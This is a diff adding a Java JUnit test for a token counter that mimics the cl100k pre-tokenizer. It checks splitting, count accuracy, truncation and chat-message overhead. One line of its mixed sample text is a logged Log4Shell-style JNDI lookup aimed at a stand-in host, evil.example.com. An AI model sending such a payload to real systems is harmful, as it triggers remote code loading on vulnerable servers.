@@ -0,0 +1,99 @@
+import dev.langchain4j.data.message.AiMessage;
+import dev.langchain4j.data.message.ChatMessage;
+import dev.langchain4j.data.message.SystemMessage;
+import dev.langchain4j.data.message.UserMessage;
+import dev.langchain4j.model.openai.OpenAiTokenCountEstimator;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.within;
+
+class TokenCounterTest {
+
+    // The cl100k pre-tokenizer, which TokenCounter re-implements without a regex
+    private static final Pattern CL100K_SPLIT = Pattern.compile("(?i:'s|'t|'re|'ve|'m|'ll|'d)"
+            + "|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}{1,3}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+");
+
+    private static final String MIXED = """
+            Executive 1: "I'm sure we'll ship it; they've agreed, haven't they?"
+            2024-03-11T08:15:02Z WARN  ldap-gw-01 GET /search?q=${jndi:ldap://evil.example.com/a} 403 1532
+                if (tokens > remaining) continue;   // skip\t\tlonger segments
+            estimateTokenCountInMessages(List.of(msg)) => 42.5% of   the budget\r\n\r\n
+            Grüße aus Zürich – 東京のサーバー 🚀
+            """;
+
+    private final TokenCounter counter = new TokenCounter();
+
+    @Test
+    @DisplayName("Pieces match the cl100k pre-tokenizer regex exactly")
+    void piecesMatchPreTokenizer() {
+        Matcher matcher = CL100K_SPLIT.matcher(MIXED);
+        int start = 0;
+        while (matcher.find()) {
+            assertThat(matcher.start()).isEqualTo(start);
+            assertThat(MIXED.substring(start, TokenCounter.nextPiece(MIXED, start, MIXED.length())))
+                    .isEqualTo(matcher.group());
+            start = matcher.end();
+        }
+        assertThat(start).isEqualTo(MIXED.length());
+    }
+
+    @Test
+    @DisplayName("Counts stay within 5% of the cl100k BPE tokenizer on prose, logs and code")
+    void closeToBpe() throws Exception {
+        OpenAiTokenCountEstimator bpe = new OpenAiTokenCountEstimator("gpt-4");
+        String prose = Files.readString(Path.of("src/main/resources/fake_meeting.txt"));
+        String log = String.join("\n", IndicatorExtractionBenchmark.sampleLog());
+        String code = Files.readString(Path.of("src/test/resources/token_counter_code.java.txt"));
+
+        for (String text : List.of(prose, log, code)) {
+            double exact = bpe.estimateTokenCountInText(text);
+            assertThat((double) counter.count(text)).isCloseTo(exact, within(exact * 0.05));
+        }
+    }
+
+    @Test
+    @DisplayName("Any CharSequence is counted in place, and ranges add up to the whole")
+    void countsCharSequenceRanges() {
+        StringBuilder builder = new StringBuilder(MIXED);
+        int split = MIXED.indexOf("\n2024");
+
+        assertThat(counter.count(builder)).isEqualTo(counter.count(MIXED));
+        assertThat(counter.count(builder, 0, split) + counter.count(builder, split, builder.length()))
+                .isCloseTo(counter.count(builder), within(1));
+        assertThat(counter.count("")).isZero();
+    }
+
+    @Test
+    @DisplayName("Truncation keeps the longest prefix that fits the budget, marker included")
+    void truncatesToBudget() {
+        String text = "Restart the vpn gateway and rotate the certificate. ".repeat(200);
+        String marker = " [truncated]";
+
+        String truncated = counter.truncate(text, 100, marker);
+
+        assertThat(truncated).endsWith(marker);
+        assertThat(text).startsWith(truncated.substring(0, truncated.length() - marker.length()));
+        assertThat(counter.count(truncated)).isBetween(95, 100);
+        assertThat(counter.truncate("short text", 100, marker)).isEqualTo("short text");
+    }
+
+    @Test
+    @DisplayName("Messages are charged their text plus the chat framing")
+    void countsMessages() {
+        List<ChatMessage> messages = List.of(SystemMessage.from("You are an IT security expert."),
+                UserMessage.from("Which port does LDAP use?"), AiMessage.from("389, or 636 for LDAPS."));
+
+        int text = counter.count("You are an IT security expert.") + counter.count("Which port does LDAP use?")
+                + counter.count("389, or 636 for LDAPS.");
+        assertThat(counter.estimateTokenCountInMessages(messages))
+                .isEqualTo(text + 3 * TokenCounter.MESSAGE_OVERHEAD + TokenCounter.REPLY_PRIMER);
+    }
+}